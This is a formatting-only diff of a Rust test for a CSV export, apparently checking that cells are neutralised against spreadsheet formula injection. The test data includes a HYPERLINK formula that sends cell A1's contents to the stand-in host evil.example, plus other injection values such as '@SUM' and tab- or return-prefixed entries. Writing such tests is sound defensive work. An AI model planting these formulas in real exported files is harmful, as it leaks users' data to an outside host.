@@ -61,7 +61,10 @@ mod tests {
             "exportar",
             &["Empresa", "Mensaje"],
             [
-                ["=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Ver\")", "+52 55"],
+                [
+                    "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Ver\")",
+                    "+52 55",
+                ],
                 ["-1+1", "@SUM(A1:A2)"],
                 ["\tcmd", "\r=1"],
                 ["Panificadora La Espiga", "1-2"],
@@ -71,7 +74,12 @@ mod tests {
         let mut reader = csv::Reader::from_reader(csv.as_bytes());
         let cells: Vec<String> = reader
             .records()
-            .flat_map(|r| r.expect("a row").iter().map(str::to_owned).collect::<Vec<_>>())
+            .flat_map(|r| {
+                r.expect("a row")
+                    .iter()
+                    .map(str::to_owned)
+                    .collect::<Vec<_>>()
+            })
             .collect();
         assert_eq!(
             cells,
